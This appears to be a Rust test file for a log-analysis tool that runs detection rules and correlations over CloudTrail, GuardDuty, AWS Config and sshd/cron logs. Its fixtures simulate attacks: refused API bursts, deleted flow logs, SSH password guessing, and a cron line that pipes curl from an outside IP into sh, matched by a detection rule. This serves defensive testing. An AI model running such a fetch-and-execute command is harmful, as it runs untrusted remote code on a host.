//! Rules over evidence: what fires, who wrote the rule, and which rules could not fire.

use crate::bench::Bench;
use serde_json::{Value, json};
use std::path::Path;

/// One event of CloudTrail, so many seconds after ten o'clock.
pub(crate) fn event(second: u32, name: &str, more: &Value) -> String {
    let time = format!("2026-03-04T10:{:02}:{:02}Z", second / 60, second % 60);
    let mut event = json!({
        "eventVersion": "1.11", "eventTime": time, "eventSource": "ec2.amazonaws.com",
        "eventName": name, "awsRegion": "eu-west-1", "sourceIPAddress": "203.0.113.9",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/al\u{1b}[31m"},
        "eventType": "AwsApiCall", "eventCategory": "Management",
        "eventID": format!("00000000-0000-4000-8000-{second:012}"),
        "recipientAccountId": "111122223333",
    });
    for (name, value) in more.as_object().unwrap() {
        event[name] = value.clone();
    }
    format!("{event}\n")
}

pub(crate) fn evidence() -> String {
    let refused = json!({"errorCode": "Client.UnauthorizedOperation"});
    let mut lines: Vec<String> =
        (0..12).map(|at| event(290 + at, "RunInstances", &refused)).collect();
    lines.push(event(5, "DeleteFlowLogs", &json!({})));
    lines.push(event(6, "DescribeFlowLogs", &json!({})));
    // Whatever order they come in.
    lines.rotate_left(5);
    lines.concat()
}

fn alarms(bench: &Bench, more: &[&str]) -> (Vec<Value>, String) {
    let evidence = bench.write("events.jsonl", evidence().as_bytes());
    let arguments = [&["alarms", "list", "--format", "jsonl", evidence.as_str()], more].concat();
    let said = bench.run(&arguments);
    let lines = said.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    (lines, said.err)
}

#[test]
fn an_alarm_says_which_rule_fired_on_which_events() {
    let bench = Bench::new();
    let (found, _) = alarms(&bench, &[]);
    let titles: Vec<&str> = found.iter().map(|alarm| alarm["title"].as_str().unwrap()).collect();
    assert_eq!(
        titles,
        ["Logs were deleted, or no longer written", "Many calls of one principal were refused"]
    );
    let deleted = &found[0];
    assert_eq!(deleted["events"][0]["id"], "00000000-0000-4000-8000-000000000005");
    assert_eq!((&deleted["count"], &deleted["state"]), (&1.into(), &"new".into()));
    assert_eq!(deleted["entities"]["src.ip"], json!(["203.0.113.9"]));
    // The burst goes over the end of one five minutes.
    let burst = &found[1];
    assert_eq!(burst["count"], 12);
    assert_eq!(
        (&burst["first"], &burst["last"]),
        (&"2026-03-04T10:04:50Z".into(), &"2026-03-04T10:05:01Z".into())
    );
    for alarm in &found {
        assert_eq!(
            (&alarm["author"], &alarm["licence"]),
            (&"trailcase".into(), &"MIT OR Apache-2.0".into())
        );
    }
    // The same evidence raises the same alarms.
    assert_eq!(alarms(&bench, &["--jobs", "1"]).0, found);
    let said =
        bench.run(&["alarms", "list", &bench.path("evidence/events.jsonl").display().to_string()]);
    assert!(said.out.contains(" by trailcase (MIT OR Apache-2.0)") && !said.out.contains('\u{1b}'));
}

#[test]
fn what_could_not_fire_says_why() {
    let bench = Bench::new();
    let rule = |source: &str, detection: &str| {
        format!(
            "title: t\nauthor: somebody\nlogsource:\n{source}\ndetection:\n    s:\n        {detection}\n    condition: s\n"
        )
    };
    let cloudtrail = "    product: aws\n    service: cloudtrail";
    bench.write("rules/a.yml", rule("    product: windows", "a: b").as_bytes());
    bench.write("rules/b.yml", rule(cloudtrail, "a|expand: b").as_bytes());
    bench.write("rules/c.yml", rule("    product: aws\n    service: guardduty", "a: b").as_bytes());
    bench.write("rules/d.yml", rule(cloudtrail, "eventName: GetObject").as_bytes());
    bench.write("rules/f.yml", rule(cloudtrail, "errorCode: AccessDenied").as_bytes());
    bench.write("rules/e.yml", b"title: t\ndetection: [\n");
    bench.write("rules/LICENSE", b"# Detection Rule License (DRL) 1.1\n");
    let evidence = bench.write("events.jsonl", event(1, "GetObject", &json!({})).as_bytes());
    let rules = bench.path("evidence/rules").display().to_string();
    let said = bench.run(&["alarms", "rules", &evidence, "--rules", &rules]);
    let told: Vec<&str> = said.out.lines().filter(|line| line.contains(" t: ")).collect();
    let wanted = [
        "logs of windows are not asked here",
        "the modifier \"expand\" is not known here",
        "there are no events of guardduty in this evidence",
        "matched 1 of 1 evaluated",
        "could not fire: field never present: no event of its log source in this evidence has errorCode",
    ];
    assert_eq!(told.len(), wanted.len(), "{}", said.out);
    for (line, wanted) in told.iter().zip(wanted) {
        assert!(line.contains(wanted), "{line}");
    }
    assert!(said.err.contains("e.yml: line 3, column 1") && said.code == 2, "{}", said.err);
    let (found, _) = alarms(&bench, &["--rules", &rules]);
    assert!(found.iter().all(|alarm| alarm["title"] != "t"));
    let said = bench.run(&["alarms", "list", &evidence, "--rules", "/nowhere"]);
    assert!(said.code == 2 && said.err.contains("/nowhere: no such file or folder"));
}

#[test]
fn a_rule_that_asks_for_a_member_that_is_never_there_could_not_fire() {
    let bench = Bench::new();
    let rule = |title: &str, detection: &str| {
        format!(
            "title: {title}\nid: {title}\nname: {title}\nlogsource: {{product: aws, service: cloudtrail}}\n\
             detection: {{{detection}}}\n---\n"
        )
    };
    let correlation = |title: &str, kind: &str| {
        format!(
            "title: {title}\nid: {title}\ncorrelation: {{type: {kind}, rules: [put, never], timespan: 1h, \
             condition: {{gte: 5}}, generate: true}}\n---\n"
        )
    };
    let rules = [
        rule("put", "s: {eventName: PutThing}, condition: s"),
        rule("never", "s: {eventName: PutThing, requestParameters.naem: x}, condition: s"),
        rule("typo", "s: {eventNaem: PutThing}, condition: s"),
        rule("both", "s: {eventNaem: A}, o: {requestParameters.naem: x}, condition: s or o"),
        rule("other", "s: {requestParameters.name: y}, condition: s"),
        rule("late", "s: {eventName: PutThing, requestParameters.late.inner: y}, condition: s"),
        rule("void", "s: {requestParameters.void: x}, condition: s"),
        rule("either", "s: {eventNaem: A}, o: {eventName: B}, condition: s or o"),
        rule("without", "s: {eventName: B, requestParameters.naem: null}, condition: s"),
        rule("not", "s: {eventName: B}, o: {requestParameters.naem: x}, condition: s and not o"),
        rule("but", "s: {eventName: PutThing}, o: {eventNaem: null}, condition: s and not o"),
        correlation("many", "event_count"),
        correlation("together", "temporal"),
    ];
    let rules = bench.write("own.yml", rules.concat().trim_end_matches("---\n").as_bytes());
    let lines = [
        event(1, "PutThing", &json!({"requestParameters": {"name": "x", "void": null}})),
        event(2, "Other", &json!({"requestParameters": {"late": [{"inner": 1}]}})),
    ];
    let evidence = bench.write("events.jsonl", lines.concat().as_bytes());
    let said = bench.run(&["alarms", "rules", &evidence, "--rules", &rules]);
    let none = |what: &str| {
        format!(
            "could not fire: field never present: no event of its log source in this evidence has {what}\n"
        )
    };
    for (title, wanted) in [
        ("put", "matched 1 of 2 evaluated\n".to_owned()),
        ("never", none("requestParameters.naem")),
        ("typo", none("eventNaem")),
        ("both", none("eventNaem or requestParameters.naem").replace("field", "fields")),
        ("other", "matched 0 of 2 evaluated\n".to_owned()),
        ("late", "matched 0 of 2 evaluated\n".to_owned()),
        ("void", none("requestParameters.void")),
        ("either", "matched 0 of 2 evaluated\n".to_owned()),
        ("without", "matched 0 of 2 evaluated\n".to_owned()),
        ("not", "matched 0 of 2 evaluated\n".to_owned()),
        ("but", none("eventNaem")),
        ("many", "0 bursts among 1 events of its rules\n".to_owned()),
        ("together", "could not fire: what it is made of could not: never\n".to_owned()),
    ] {
        assert!(said.out.contains(&format!(" {title}: {wanted}")), "{title}: {wanted}{}", said.out);
    }
    assert_eq!(said.code, 0, "{}", said.err);
}

#[test]
fn findings_of_others_are_alarms_unless_all_is_well() {
    let bench = Bench::new();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let told = |file: &str| {
        let file = fixtures.join(file).display().to_string();
        let said = bench.run(&["alarms", "list", "--format", "jsonl", &file]);
        let line = |line: &str| {
            let alarm: Value = serde_json::from_str(line).unwrap();
            let text = |name: &str| alarm[name].as_str().unwrap().to_owned();
            [text("severity"), text("title"), text("author")].join(" | ")
        };
        said.out.lines().map(line).collect::<Vec<_>>()
    };
    // The third is archived.
    assert_eq!(
        told("guardduty/export.jsonl"),
        [
            "medium | Backdoor:EC2/C&CActivity.B!DNS | Amazon GuardDuty",
            "medium | UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom | Amazon GuardDuty"
        ]
    );
    // Three others are over, or not known yet.
    assert_eq!(
        told("cloudwatch_alarm/eventbridge.jsonl"),
        ["medium | alarm cpu-high | Amazon CloudWatch"]
    );
    let checks = told("securityhub/get-findings.json");
    let posture: Vec<&String> = checks.iter().filter(|line| line.contains("posture")).collect();
    assert_eq!(posture, ["high | posture: S3.8 | AWS Security Hub"]);
}

#[test]
fn what_does_not_comply_is_an_alarm_of_each_resource_in_whatever_form_it_is_told() {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/aws_config");
    let bench = Bench::new();
    let found = |file: &str| {
        let said = bench.run(&["alarms", "list", "--format", "jsonl", file]);
        let ours = said.json().into_iter().filter(|alarm| {
            alarm["title"] == "A resource does not comply with a rule of AWS Config"
        });
        ours.map(|alarm| (alarm["fingerprint"].clone(), alarm["count"].clone())).collect::<Vec<_>>()
    };
    let fixture = |name: &str| found(&fixtures.join(name).display().to_string());
    for file in [
        "messages.jsonl",
        "eventbridge.json",
        "get-compliance-details.json",
        "describe-compliance.json",
    ] {
        assert_eq!(fixture(file).len(), 1, "{file}");
    }
    assert_eq!(fixture("messages.jsonl"), fixture("eventbridge.json"));
    // Nobody knows whether it does.
    assert_eq!(fixture("rules.json"), []);

    let item = |capture: &str, status: &str, as_text: bool| {
        let configuration = json!({"targetResourceId": "b-1", "complianceType": status});
        let configuration = if as_text { json!(configuration.to_string()) } else { configuration };
        json!({
            "configurationItemCaptureTime": capture, "awsAccountId": "111122223333",
            "configurationItemStatus": "OK", "resourceType": "AWS::Config::ResourceCompliance",
            "resourceId": "AWS::S3::Bucket/b-1", "awsRegion": "eu-west-1",
            "configuration": configuration,
        })
    };
    let items = json!({"fileVersion": "1.0", "configurationItems": [
        item("2026-03-04T10:00:00.000Z", "COMPLIANT", false),
        item("2026-03-04T11:00:00.000Z", "NON_COMPLIANT", false),
        item("2026-03-04T12:00:00.000Z", "NON_COMPLIANT", true),
    ]});
    let file = bench.write("items.json", items.to_string().as_bytes());
    let alarms = found(&file);
    assert_eq!(alarms.len(), 1);
    assert_eq!(alarms[0].1, 2);
    let fingerprint = alarms[0].0.as_str().unwrap();
    let said = bench.run(&["alarms", "show", &file, fingerprint]).out;
    let asked = "Who changed it: format:cloudtrail readOnly:false resource:\"AWS::S3::Bucket/b-1\"";
    assert!(said.contains(asked), "{said}");
}

#[test]
fn rules_that_cannot_be_looked_at_are_told() {
    let bench = Bench::new();
    let evidence = bench.write("events.jsonl", event(1, "GetObject", &json!({})).as_bytes());
    let rule = "title: t\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    s:\n        eventName: GetObject\n    condition: s\n";
    bench.write("rules/a.yml", rule.as_bytes());
    let rules = bench.path("evidence/rules").display().to_string();
    let run = || bench.run(&["alarms", "list", &evidence, "--rules", &rules]);
    assert_eq!(run().code, 0);
    // Nobody named the folder of the configuration, and nothing is wrong if nothing is in it.
    std::fs::create_dir_all(bench.path("home/.config/trailcase/rules")).unwrap();
    let said = run();
    assert!(said.code == 0 && !said.err.contains("no rules in it"), "{}", said.err);
    std::fs::create_dir(bench.path("evidence/rules/empty")).unwrap();
    let empty = bench.path("evidence/rules/empty").display().to_string();
    let said = bench.run(&["alarms", "list", &evidence, "--rules", &empty]);
    assert!(said.code == 2 && said.err.contains("no rules in it"), "{}", said.err);
    // Deeper than anybody puts rules.
    let deep = format!("rules/{}b.yml", "x/".repeat(20));
    bench.write(&deep, rule.as_bytes());
    let said = run();
    assert!(
        said.code == 2 && said.err.contains("folders within each other; left out"),
        "{}",
        said.err
    );
    assert!(said.out.contains("  t  "), "{}", said.out);
    std::fs::remove_dir_all(bench.path("evidence/rules/x")).unwrap();
    // A name that leads nowhere.
    std::os::unix::fs::symlink("/nowhere", bench.path("evidence/rules/c.yml")).unwrap();
    let said = run();
    assert!(said.code == 2 && said.err.contains("c.yml: cannot be read"), "{}", said.err);
}

#[test]
fn events_that_belong_to_no_group_are_counted() {
    const CODE: &str = "Client.UnauthorizedOperation";
    let bench = Bench::new();
    let nobody = json!({"errorCode": CODE, "userIdentity": {"type": "AWSAccount"}});
    let timeless = json!({"errorCode": CODE, "eventTime": "yesterday"});
    let mut lines: Vec<String> = (1..4).map(|at| event(at, "GetObject", &nobody)).collect();
    lines.push(event(9, "GetObject", &timeless));
    lines.push(event(10, "GetObject", &json!({"errorCode": CODE})));
    let evidence = bench.write("events.jsonl", lines.concat().as_bytes());
    let rules = bench.write("own.yml", correlations(&[]).as_bytes());
    let said = bench.run(&["alarms", "rules", &evidence, "--rules", &rules]);
    let wanted = "0 bursts among 5 events of its rules; 1 event left out: no time; 3 events left \
                  out: no userIdentity.arn";
    assert!(said.out.contains(wanted), "{}", said.out);
}

/// A rule, and correlations by name, what each is made of, and what else it says.
fn correlations(all: &[(&str, &str, &str)]) -> String {
    let one = "title: A deletion\nname: deleted\nlogsource: {product: aws, service: cloudtrail}\n\
               detection: {s: {eventName: DeleteFlowLogs}, condition: s}\n\
               ---\ntitle: A refusal\nname: refused\nlogsource: {product: aws, service: cloudtrail}\n\
               detection: {s: {errorCode: '*UnauthorizedOperation'}, condition: s}\n\
               ---\ntitle: Many refusals\nname: many\ncorrelation: {type: event_count, rules: refused, \
               group-by: [userIdentity.arn], timespan: 5m, condition: {gte: 10}}\n";
    let others = all.iter().map(|(name, of, more)| {
        format!(
            "---\ntitle: {name}\nname: {name}\nlevel: high\ncorrelation: {{rules: [{of}], \
             group-by: [userIdentity.arn], {more}}}\n"
        )
    });
    std::iter::once(one.to_owned()).chain(others).collect()
}

/// A rule of those above that is a correlation itself.
const MANY_REFUSED: &str = "many";

#[test]
fn what_a_correlation_finds_is_an_event_of_one_that_is_made_of_it() {
    let bench = Bench::new();
    let refused = json!({"errorCode": "Client.UnauthorizedOperation"});
    // Twelve refused calls, a deletion, one refused call more, and a deletion of before.
    let mut lines: Vec<String> =
        (0..12).map(|at| event(800 + at, "RunInstances", &refused)).collect();
    lines.push(event(1100, "DeleteFlowLogs", &json!({})));
    lines.push(event(1300, "RunInstances", &refused));
    lines.push(event(5, "DeleteFlowLogs", &json!({})));
    let evidence = bench.write("events.jsonl", lines.concat().as_bytes());
    let titles = |rules: &str| {
        let rules = bench.write("own.yml", rules.as_bytes());
        let said =
            bench.run(&["alarms", "list", "--format", "jsonl", &evidence, "--rules", &rules]);
        let told =
            |alarm: Value| format!("{} {}", alarm["title"].as_str().unwrap(), alarm["count"]);
        said.json().into_iter().map(told).collect::<Vec<_>>()
    };
    let ordered = |order: &str, more: &str| {
        titles(&correlations(&[("both", order, &format!("type: temporal_ordered, {more}"))]))
    };
    let many = "Many refusals 12".to_owned();
    let found = ordered(&format!("{MANY_REFUSED}, deleted"), "timespan: 10m");
    assert!(found.contains(&"both 13".to_owned()) && !found.contains(&many), "{found:?}");
    let found = ordered(&format!("{MANY_REFUSED}, deleted"), "timespan: 10m, generate: true");
    assert!(found.contains(&"both 13".to_owned()) && found.contains(&many), "{found:?}");
    // Not soon enough after the last time at which many were refused.
    let found = ordered(&format!("{MANY_REFUSED}, deleted"), "timespan: 4m");
    assert!(!found.iter().any(|title| title.starts_with("both")), "{found:?}");
    // The other way round it is the first deletion that counts; while it does, so does the other one.
    let found = ordered(&format!("deleted, {MANY_REFUSED}"), "timespan: 20m");
    assert!(found.contains(&"both 14".to_owned()), "{found:?}");
    let found = ordered(&format!("deleted, {MANY_REFUSED}"), "timespan: 10m");
    assert!(!found.iter().any(|title| title.starts_with("both")), "{found:?}");
    // A burst is one event where events are counted.
    let count = |least: u8| {
        let more = format!("type: event_count, timespan: 1h, condition: {{gte: {least}}}");
        titles(&correlations(&[("bursts", MANY_REFUSED, &more)]))
    };
    assert!(count(1).contains(&"bursts 12".to_owned()), "{:?}", count(1));
    assert!(!count(2).iter().any(|title| title.starts_with("bursts")), "{:?}", count(2));
}

#[test]
fn a_correlation_that_is_made_of_itself_is_refused_and_said_so() {
    let bench = Bench::new();
    let evidence = bench.write("events.jsonl", evidence().as_bytes());
    let more = "type: temporal, timespan: 10m";
    let rules = correlations(&[("a", "deleted, b", more), ("b", "a", more), ("c", "b", more)]);
    let rules = bench.write("own.yml", rules.as_bytes());
    let said = bench.run(&["alarms", "rules", &evidence, "--rules", &rules]);
    for wanted in [
        "a: could not fire: a rule cannot be made of itself: \"a\" of \"b\" of \"a\"\n",
        "b: could not fire: a rule cannot be made of itself: \"b\" of \"a\" of \"b\"\n",
        "c: could not fire: a rule that it is made of is made of itself: \"b\" of \"a\" of \"b\"\n",
    ] {
        assert!(said.out.contains(wanted), "{wanted}: {}{}", said.out, said.err);
    }
    assert_eq!(said.code, 0, "{}", said.err);
}

#[test]
fn values_that_are_not_kept_are_counted() {
    let bench = Bench::new();
    let from = |number: u32| json!({"sourceIPAddress": format!("203.0.113.{number}")});
    let lines: Vec<String> = (1..=60).map(|at| event(at, "DeleteFlowLogs", &from(at))).collect();
    let evidence = bench.write("events.jsonl", lines.concat().as_bytes());
    let said = bench.run(&["alarms", "list", "--format", "jsonl", &evidence]);
    let alarm = &said.json()[0];
    assert_eq!(alarm["entities"]["src.ip"].as_array().unwrap().len(), 50);
    assert_eq!(alarm["entities_total"], json!({"src.ip": 60}));
    let said = bench.run(&["alarms", "list", &evidence]);
    assert!(said.out.contains("values kept: src.ip 50 of 60"), "{}", said.out);
}

/// What sshd and cron write, and a password that was guessed.
fn host() -> String {
    let mut lines: Vec<String> = (0..6)
        .map(|at| {
            format!("sshd[9{at}]: Failed password for root from 203.0.113.9 port 4010{at} ssh2")
        })
        .collect();
    lines.push("sshd[99]: Accepted password for root from 203.0.113.9 port 40109 ssh2".to_owned());
    lines.push("CRON[98]: (root) CMD (curl http://203.0.113.9/\u{1b}[31mx | sh)".to_owned());
    let line = |(at, text): (usize, &String)| format!("Mar  4 10:40:{at:02} web-1 {text}\n");
    lines.iter().enumerate().map(line).collect()
}

#[test]
fn rules_are_asked_of_lines_of_their_log_source_and_the_others_say_that_there_are_none() {
    let bench = Bench::new();
    let evidence = bench.write("auth.log", host().as_bytes());
    let rule = |title: &str, source: &str, detection: &str| {
        format!("title: {title}\nid: {title}\nlogsource: {source}\ndetection: {detection}\n---\n")
    };
    let rules = [
        rule(
            "piped",
            "{product: linux, service: cron}",
            "{k: {'|all': [CURL, '| sh']}, condition: k}",
        ),
        rule("nowhere", "{product: linux, service: sudo}", "{k: [curl], condition: k}"),
        rule("web", "{category: webserver}", "{k: [curl], condition: k}"),
        rule("pots", "{product: kettle}", "{k: [curl], condition: k}"),
    ];
    let rules = bench.write("own.yml", rules.concat().trim_end_matches("---\n").as_bytes());
    let said = bench.run(&["alarms", "rules", &evidence, "--rules", &rules]);
    for wanted in [
        "piped: matched 1 of 1 evaluated\n",
        "nowhere: could not fire: there are no events of linux sudo (syslog or journald) in this evidence\n",
        "web: could not fire: there are no events of access_log or w3c or alb or clb or cloudfront or \
         cloudfront_realtime or apigw_access in this evidence\n",
        "pots: could not fire: logs of kettle are not asked here\n",
        "A password was refused: matched 6 of 7 evaluated\n",
        "A password was accepted after many from that address were refused: 1 burst among 2 events of its rules\n",
    ] {
        assert!(said.out.contains(wanted), "{wanted}{}", said.out);
    }
    let said = bench.run(&["alarms", "list", "--format", "jsonl", &evidence, "--rules", &rules]);
    let found: Vec<Value> =
        said.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let guessed = found.iter().find(|it| it["severity"] == "high").unwrap();
    assert_eq!(
        (&guessed["count"], &guessed["entities"]["src.ip"]),
        (&7.into(), &json!(["203.0.113.9"]))
    );
    let piped = found.iter().find(|it| it["rule"] == "piped").unwrap();
    assert_eq!(piped["events"][0]["line"], 8);
}
